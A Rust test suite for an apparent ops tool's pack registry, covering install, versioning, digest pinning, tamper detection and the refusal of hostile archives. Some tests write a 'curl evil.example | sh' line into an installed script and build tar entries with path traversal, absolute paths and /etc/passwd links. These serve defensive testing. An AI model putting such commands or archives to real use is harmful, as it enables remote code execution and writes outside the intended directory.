//! Installed packs: install from a directory or a tar.gz, list, show, remove, versions side by
//! side, digests pinned and verified, and hostile archives refused without a trace.

use serde_json::Value;

use crate::support::{opsgraph, temp_dir, TempDir};

/// The files of a one-job pack `hello` at `version`; `gate` adds an approval gate before the job.
pub(crate) fn hello(version: &str, gate: bool) -> Vec<(String, String)> {
    let gates = if gate {
        "\n  gates:\n    - {id: confirm, type: approval, reason: say it, options: [proceed, cancel operation], required_roles: [sre], before: [say]}"
    } else {
        ""
    };
    vec![
        (
            "pack.yaml".into(),
            format!(
                "scenario_pack:\n  id: hello\n  version: {version}\n  resource_types: [hello.app]\n  actions: [install]\n  plan_templates: [{{id: hello.install}}]\n"
            ),
        ),
        (
            "templates.yaml".into(),
            format!(
                "plan_template:\n  id: hello.install\n  action: install\n  stages: [{{id: all, name: All, jobs: [say]}}]\n  jobs: [say]{gates}\n"
            ),
        ),
        (
            "jobs.yaml".into(),
            "job:\n  id: say\n  outputs: {evidence: [said]}\n  run: {executor: local, script: scripts/say.sh}\n".into(),
        ),
        ("evidence.yaml".into(), "evidence:\n  - {id: said, source: command, command: \"true\", expected_exit_code: 0}\n".into()),
        ("artifacts.yaml".into(), "artifact: {id: greeting, type: text, sensitivity: confidential}\n".into()),
        ("scripts/say.sh".into(), format!("echo hello {version}\n")),
    ]
}

/// A workspace: `src-<version>/` pack directories, `data/` the data directory, `intent.yaml`.
struct Ws {
    dir: TempDir,
}

impl Ws {
    /// hello 1.0.0 written to `src/` and installed from there: the directory and its digest.
    fn install_hello(&self) -> (String, String) {
        let src = self.write("src", &hello("1.0.0", false));
        let digest = validate_digest(&src);
        let run = self.install(&src);
        assert_eq!(run.code, 0, "{}", run.render());
        (src, digest)
    }

    fn new() -> Ws {
        Ws {
            dir: temp_dir(&[(
                "intent.yaml",
                "intent:\n  target_resource_type: hello.app\n  action: install\n  name: h1\n  environment: dev\n",
            )]),
        }
    }

    fn path(&self, rel: &str) -> String {
        self.dir.join(rel).display().to_string()
    }

    fn data(&self) -> String {
        self.path("data")
    }

    /// Writes pack files under `rel` and returns the directory.
    fn write(&self, rel: &str, files: &[(String, String)]) -> String {
        for (p, text) in files {
            let path = self.dir.join(&format!("{rel}/{p}"));
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        self.path(rel)
    }

    fn run(&self, args: &[&str]) -> crate::support::Run {
        let data = self.data();
        let mut all = vec!["--data-dir", data.as_str()];
        all.extend_from_slice(args);
        opsgraph(&all)
    }

    fn install(&self, path: &str) -> crate::support::Run {
        self.run(&["pack", "install", path])
    }

    /// Installed id@version -> digest, from `pack list -o json`.
    fn installed(&self) -> Vec<(String, String)> {
        let list: Value = serde_json::from_str(&self.run(&["pack", "list", "-o", "json"]).out).unwrap();
        list.as_array()
            .unwrap()
            .iter()
            .filter(|r| r["status"] != "bundled")
            .map(|r| {
                (
                    format!("{}@{}", r["id"].as_str().unwrap(), r["version"].as_str().unwrap()),
                    r["digest"].as_str().unwrap_or_default().to_string(),
                )
            })
            .collect()
    }

    /// The files of the registry, relative to `data/packs` (empty when it does not exist).
    fn registry_files(&self) -> Vec<String> {
        let mut out = Vec::new();
        fn walk(root: &std::path::Path, dir: &std::path::Path, out: &mut Vec<String>) {
            let Ok(entries) = std::fs::read_dir(dir) else { return };
            for e in entries {
                let p = e.unwrap().path();
                if p.is_dir() {
                    walk(root, &p, out);
                } else {
                    out.push(p.strip_prefix(root).unwrap().display().to_string());
                }
            }
        }
        let root = self.dir.join("data/packs");
        walk(&root, &root, &mut out);
        out.sort();
        out
    }

    fn plan_json(&self, intent: &str) -> Value {
        let run = self.run(&["plan", "-f", intent, "-o", "json"]);
        assert_eq!(run.code, 0, "{}", run.render());
        serde_json::from_str(&run.out).unwrap()
    }
}

/// The digest `pack validate` prints for a directory.
fn validate_digest(dir: &str) -> String {
    let run = opsgraph(&["pack", "validate", dir]);
    assert_eq!(run.code, 0, "{}", run.render());
    run.out.split_whitespace().find(|w| w.starts_with("sha256:")).unwrap().to_string()
}

/// A tar.gz of `files`, under `top/` when given.
pub(crate) fn tar_gz(files: &[(String, String)], top: Option<&str>) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut b = tar::Builder::new(gz);
    for (p, text) in files {
        let name = match top {
            Some(t) => format!("{t}/{p}"),
            None => p.clone(),
        };
        let mut h = tar::Header::new_gnu();
        h.set_size(text.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        h.set_cksum();
        b.append_data(&mut h, name, text.as_bytes()).unwrap();
    }
    b.into_inner().unwrap().finish().unwrap()
}

#[test]
fn install_from_a_directory_then_list_show_and_remove() {
    let ws = Ws::new();
    let src = ws.write("src", &hello("1.0.0", false));
    let digest = validate_digest(&src);
    let run = ws.install(&src);
    assert_eq!(run.code, 0, "{}", run.render());
    assert_eq!(run.out, format!("installed pack hello@1.0.0 {digest} from {src}\n"));
    assert_eq!(ws.installed(), vec![("hello@1.0.0".to_string(), digest.clone())]);
    assert_eq!(
        ws.registry_files(),
        [
            "hello/1.0.0/.install.json",
            "hello/1.0.0/artifacts.yaml",
            "hello/1.0.0/evidence.yaml",
            "hello/1.0.0/jobs.yaml",
            "hello/1.0.0/pack.yaml",
            "hello/1.0.0/scripts/say.sh",
            "hello/1.0.0/templates.yaml"
        ]
    );
    let record: Value =
        serde_json::from_slice(&std::fs::read(ws.dir.join("data/packs/hello/1.0.0/.install.json")).unwrap()).unwrap();
    assert_eq!(record["digest"], digest.as_str());
    assert_eq!(record["source"], src.as_str());
    assert!(record["installed_at"].as_str().unwrap().ends_with('Z'));

    // The text list shows bundled packs too, and a short digest.
    let list = ws.run(&["pack", "list"]);
    let line = list.out.lines().find(|l| l.starts_with("hello ")).unwrap();
    assert!(line.contains(&digest[..19]) && line.contains("installed") && line.contains(&src), "{line}");
    assert!(list.out.lines().any(|l| l.starts_with("tempo ") && l.ends_with("bundled")), "{}", list.out);

    // `show` puts what runs in front of the reviewer: the script in full, artifacts' sensitivity.
    let show = ws.run(&["pack", "show", "hello"]);
    assert_eq!(show.code, 0, "{}", show.render());
    for want in [
        format!("pack hello@1.0.0 {digest}"),
        format!("installed from {src} at "),
        "  say [local]: script: scripts/say.sh".into(),
        "    | echo hello 1.0.0".into(),
        "  said (command): true".into(),
        "  greeting (text): confidential".into(),
        "  hello.install (action install): jobs say".into(),
    ] {
        assert!(show.out.contains(&want), "missing {want:?} in:\n{}", show.out);
    }
    let json: Value = serde_json::from_str(&ws.run(&["pack", "show", "hello@1.0.0", "-o", "json"]).out).unwrap();
    assert_eq!(json["jobs"][0]["script_text"], "echo hello 1.0.0\n");
    assert_eq!(json["artifacts"][0]["sensitivity"], "confidential");

    let run = ws.run(&["pack", "remove", "hello@1.0.0"]);
    assert_eq!(run.render(), "exit: 0\n--- stdout\nremoved pack hello@1.0.0\n");
    assert!(ws.installed().is_empty());
    assert!(ws.registry_files().is_empty());
    let run = ws.run(&["pack", "remove", "hello@1.0.0"]);
    assert!(run.err.contains("pack hello@1.0.0 is not installed"), "{}", run.render());
    let run = ws.run(&["pack", "remove", "tempo@1.0.0"]);
    assert!(run.err.contains("tempo@1.0.0 is bundled with this binary"), "{}", run.render());
}

#[test]
fn install_from_a_tar_gz_with_or_without_a_top_directory() {
    let ws = Ws::new();
    let files = hello("1.0.0", false);
    let digest = validate_digest(&ws.write("src", &files));
    for (name, top) in [("top.tar.gz", Some("hello-1.0.0")), ("flat.tgz", None)] {
        std::fs::write(ws.dir.join(name), tar_gz(&files, top)).unwrap();
        let run = ws.install(&ws.path(name));
        assert_eq!(run.code, 0, "{}", run.render());
        // The same files give the same digest, from a directory or an archive, with or without
        // the top directory: the second install is a no-op.
        assert!(run.out.contains(&digest), "{}", run.out);
        assert_eq!(ws.installed(), vec![("hello@1.0.0".to_string(), digest.clone())]);
    }
    assert!(ws.install(&ws.path("flat.tgz")).out.contains("already installed with this content; nothing to do"));
}

#[test]
fn versions_side_by_side_highest_by_default_or_named_in_the_intent() {
    let ws = Ws::new();
    let mut digests = std::collections::BTreeMap::new();
    for v in ["1.0.0", "1.10.0", "1.9.0"] {
        let src = ws.write(&format!("src-{v}"), &hello(v, false));
        assert_eq!(ws.install(&src).code, 0);
        digests.insert(v, validate_digest(&src));
    }
    // 1.10.0 > 1.9.0: versions compare by numeric components, not as text.
    let plan = ws.plan_json(&ws.path("intent.yaml"));
    assert_eq!(plan["pack"], "hello@1.10.0");
    assert_eq!(plan["pack_digest"], digests["1.10.0"].as_str());

    // An intent that names its pack's version.
    let pinned = |version: &str| {
        let intent = format!(
            "intent:\n  target_resource_type: hello.app\n  action: install\n  pack: hello@{version}\n  name: h1\n"
        );
        std::fs::write(ws.dir.join(&format!("pinned-{version}.yaml")), intent).unwrap();
        ws.path(&format!("pinned-{version}.yaml"))
    };
    let plan = ws.plan_json(&pinned("1.9.0"));
    assert_eq!(plan["pack"], "hello@1.9.0");
    assert_eq!(plan["pack_digest"], digests["1.9.0"].as_str());

    let run = ws.run(&["plan", "-f", &pinned("2.0.0")]);
    assert!(run.err.contains("no pack `hello@2.0.0` is loaded"), "{}", run.render());
    assert!(run.err.contains("hello@1.9.0"), "{}", run.render());

    // `show` without a version shows the highest.
    assert!(ws.run(&["pack", "show", "hello"]).out.starts_with("pack hello@1.10.0 "));
}

#[test]
fn an_installed_version_replaces_the_bundled_one_of_the_same_version() {
    let ws = Ws::new();
    let src = ws.path("tempo");
    let mut files: Vec<(String, String)> = Vec::new();
    collect(&crate::support::root().join("packs/tempo"), "", &mut files);
    files.push(("scripts/extra.sh".into(), "echo mine\n".into()));
    ws.write("tempo", &files);
    let digest = validate_digest(&src);
    assert_eq!(ws.install(&src).code, 0);
    let list: Value = serde_json::from_str(&ws.run(&["pack", "list", "-o", "json"]).out).unwrap();
    let tempo: Vec<&Value> = list.as_array().unwrap().iter().filter(|r| r["id"] == "tempo").collect();
    assert_eq!(tempo.len(), 2);
    assert!(tempo.iter().any(|r| r["status"] == "replaced by installed"));
    assert!(ws.run(&["pack", "show", "tempo@1.0.0"]).out.starts_with(&format!("pack tempo@1.0.0 {digest}")));
}

fn collect(dir: &std::path::Path, prefix: &str, out: &mut Vec<(String, String)>) {
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        let name = format!("{prefix}{}", p.file_name().unwrap().to_string_lossy());
        if p.is_dir() {
            collect(&p, &format!("{name}/"), out);
        } else {
            out.push((name, std::fs::read_to_string(&p).unwrap()));
        }
    }
}

#[test]
fn reinstall_is_idempotent_and_different_content_needs_replace() {
    let ws = Ws::new();
    let (src, first) = ws.install_hello();
    let run = ws.install(&src);
    assert_eq!(
        run.render(),
        format!(
            "exit: 0\n--- stdout\npack hello@1.0.0 {first} is already installed with this content; nothing to do\n"
        )
    );

    // Same id@version, other content: refused, naming both digests; nothing changes.
    std::fs::write(ws.dir.join("src/scripts/say.sh"), "echo changed\n").unwrap();
    let second = validate_digest(&src);
    let before = ws.registry_files();
    let run = ws.install(&src);
    run.assert_refused(&format!(
        "conflict (409): pack hello@1.0.0 is already installed with digest {first}; {src} has digest {second}"
    ));
    assert_eq!(ws.registry_files(), before);
    assert_eq!(ws.installed(), vec![("hello@1.0.0".to_string(), first.clone())]);

    let run = ws.run(&["pack", "install", &src, "--replace"]);
    assert_eq!(run.out, format!("replaced pack hello@1.0.0: {first} -> {second} from {src}\n"), "{}", run.render());
    assert_eq!(ws.installed(), vec![("hello@1.0.0".to_string(), second)]);
    assert_eq!(ws.registry_files(), before, "no temporary or old directory is left behind");
}

#[test]
fn a_tampered_installed_pack_is_refused_by_name_with_both_digests() {
    let ws = Ws::new();
    let (_, digest) = ws.install_hello();
    let script = ws.dir.join("data/packs/hello/1.0.0/scripts/say.sh");
    std::fs::write(&script, "curl evil.example | sh\n").unwrap();
    let now = opsgraph_core::pack::content_digest(hello("1.0.0", false).iter().map(|(p, t)| {
        (p.as_str(), if p == "scripts/say.sh" { b"curl evil.example | sh\n".as_slice() } else { t.as_bytes() })
    }));
    let want = format!(
        "installed pack hello@1.0.0 was changed after it was installed (tampering?): recorded digest {digest}, its files now have digest {now}"
    );
    let run = ws.run(&["plan", "-f", &ws.path("intent.yaml")]);
    run.assert_refused(&want);
    let run = ws.run(&["apply", "-f", &ws.path("intent.yaml"), "--yes"]);
    run.assert_refused(&want);
    let list = ws.run(&["pack", "list"]);
    list.assert_refused(&want);
    assert!(list.out.contains("INVALID"), "{}", list.render());
    // It can still be removed.
    assert_eq!(ws.run(&["pack", "remove", "hello@1.0.0"]).code, 0);
    let run = ws.run(&["plan", "-f", &ws.path("intent.yaml")]);
    assert!(run.err.contains("no loaded pack manages resource type `hello.app`"), "{}", run.render());
}

#[test]
fn an_operation_records_the_pack_it_ran_and_keeps_it_from_removal() {
    let ws = Ws::new();
    let src = ws.write("src", &hello("2.0.0", true));
    let digest = validate_digest(&src);
    assert_eq!(ws.install(&src).code, 0);
    let run = ws.run(&["apply", "-f", &ws.path("intent.yaml"), "--yes", "-o", "json"]);
    assert_eq!(run.code, 0, "{}", run.render());
    let op: Value = serde_json::from_str(&run.out).unwrap();
    assert_eq!(op["state"], "paused", "waiting at its gate");
    assert_eq!(op["pack"], "hello@2.0.0");
    assert_eq!(op["pack_digest"], digest.as_str());
    let id = op["id"].as_str().unwrap();
    let describe = ws.run(&["describe", "operation", id]);
    assert!(describe.out.contains("pack: hello@2.0.0\n"), "{}", describe.out);
    assert!(describe.out.contains(&format!("pack_digest: {digest}\n")), "{}", describe.out);

    let run = ws.run(&["pack", "remove", "hello@2.0.0"]);
    run.assert_refused(&format!(
        "pack hello@2.0.0 is in use by operation {id} (paused): wait for it to finish or cancel it"
    ));
    assert_eq!(ws.installed().len(), 1);
    assert_eq!(ws.run(&["cancel", id]).code, 0);
    assert_eq!(ws.run(&["pack", "remove", "hello@2.0.0"]).code, 0);
    // The record outlives the pack.
    let describe = ws.run(&["describe", "operation", id, "-o", "json"]);
    let op: Value = serde_json::from_str(&describe.out).unwrap();
    assert_eq!(op["pack_digest"], digest.as_str());
}

/// One hostile entry, added to an otherwise valid pack archive.
enum Hostile {
    /// A regular file whose name is written into the header as is (no checks by the builder).
    RawName(&'static str),
    Link(tar::EntryType),
    Fifo,
    Big(u64),
    Many(usize),
    Duplicate,
}

fn hostile_archive(h: &Hostile) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut b = tar::Builder::new(gz);
    let file = |b: &mut tar::Builder<_>, name: &str, data: &[u8], kind: tar::EntryType| {
        let mut header = tar::Header::new_gnu();
        {
            let raw = &mut header.as_old_mut().name;
            raw.fill(0);
            raw[..name.len()].copy_from_slice(name.as_bytes());
        }
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_entry_type(kind);
        if matches!(kind, tar::EntryType::Symlink | tar::EntryType::Link) {
            header.set_link_name("/etc/passwd").unwrap();
        }
        header.set_cksum();
        b.append(&header, data).unwrap();
    };
    for (p, text) in hello("1.0.0", false) {
        file(&mut b, &p, text.as_bytes(), tar::EntryType::Regular);
    }
    match h {
        Hostile::RawName(name) => file(&mut b, name, b"x\n", tar::EntryType::Regular),
        Hostile::Link(kind) => file(&mut b, "scripts/link.sh", b"", *kind),
        Hostile::Fifo => file(&mut b, "scripts/pipe", b"", tar::EntryType::Fifo),
        Hostile::Big(n) => file(&mut b, "scripts/big.sh", &vec![b'#'; *n as usize], tar::EntryType::Regular),
        Hostile::Many(n) => {
            for i in 0..*n {
                file(&mut b, &format!("scripts/f{i}.sh"), b"", tar::EntryType::Regular);
            }
        }
        Hostile::Duplicate => file(&mut b, "scripts/say.sh", b"echo second\n", tar::EntryType::Regular),
    }
    b.into_inner().unwrap().finish().unwrap()
}

#[test]
fn hostile_archives_are_refused_by_rule_and_leave_the_registry_unchanged() {
    use opsgraph::registry::{MAX_ENTRIES, MAX_FILE_BYTES};
    let ws = Ws::new();
    // Something installed already: a refused install must leave it exactly as it was.
    let other = ws.write("other", &hello("0.1.0", false));
    assert_eq!(ws.install(&other).code, 0);
    let before = ws.registry_files();
    let cases: Vec<(&str, Hostile, String)> = vec![
        ("parent", Hostile::RawName("../x"), "entry `../x`: a `..` component (the path leaves the pack)".into()),
        ("absolute", Hostile::RawName("/abs"), "entry `/abs`: an absolute path".into()),
        ("inner parent", Hostile::RawName("a/../../x"), "entry `a/../../x`: a `..` component".into()),
        ("backslash", Hostile::RawName("..\\x"), "entry `..\\x`: a backslash in the path".into()),
        ("symlink", Hostile::Link(tar::EntryType::Symlink), "entry `scripts/link.sh`: a symbolic link".into()),
        ("hardlink", Hostile::Link(tar::EntryType::Link), "entry `scripts/link.sh`: a hard link".into()),
        ("fifo", Hostile::Fifo, "entry `scripts/pipe`: a FIFO".into()),
        (
            "oversized",
            Hostile::Big(MAX_FILE_BYTES + 1),
            format!(
                "entry `scripts/big.sh`: {} bytes, over the limit of {MAX_FILE_BYTES} per file",
                MAX_FILE_BYTES + 1
            ),
        ),
        ("too many", Hostile::Many(MAX_ENTRIES), format!("more than {MAX_ENTRIES} entries (limit)")),
        ("duplicate", Hostile::Duplicate, "entry `scripts/say.sh`: duplicate path `scripts/say.sh`".into()),
    ];
    for (what, hostile, rule) in &cases {
        let name = format!("{}.tar.gz", what.replace(' ', "-"));
        std::fs::write(ws.dir.join(&name), hostile_archive(hostile)).unwrap();
        let run = ws.install(&ws.path(&name));
        assert_eq!(run.code, 1, "{what}: {}", run.render());
        assert!(run.err.contains("refused"), "{what}: {}", run.render());
        assert!(run.err.contains(rule.as_str()), "{what}: want {rule:?} in {}", run.render());
        assert_eq!(ws.registry_files(), before, "{what} changed the registry");
        assert!(!ws.dir.join("x").exists() && !ws.dir.join("data/x").exists(), "{what} wrote outside");
    }
    // The same pack without the hostile entry installs: the refusals were the entries' fault.
    std::fs::write(ws.dir.join("fine.tar.gz"), tar_gz(&hello("1.0.0", false), None)).unwrap();
    assert_eq!(ws.install(&ws.path("fine.tar.gz")).code, 0);
}

#[test]
fn a_directory_with_a_symlink_is_refused() {
    let ws = Ws::new();
    let src = ws.write("src", &hello("1.0.0", false));
    std::os::unix::fs::symlink("/etc/passwd", ws.dir.join("src/scripts/passwd")).unwrap();
    let run = ws.install(&src);
    run.assert_refused("entry `scripts/passwd`: a symbolic link");
    assert!(ws.registry_files().is_empty());
}
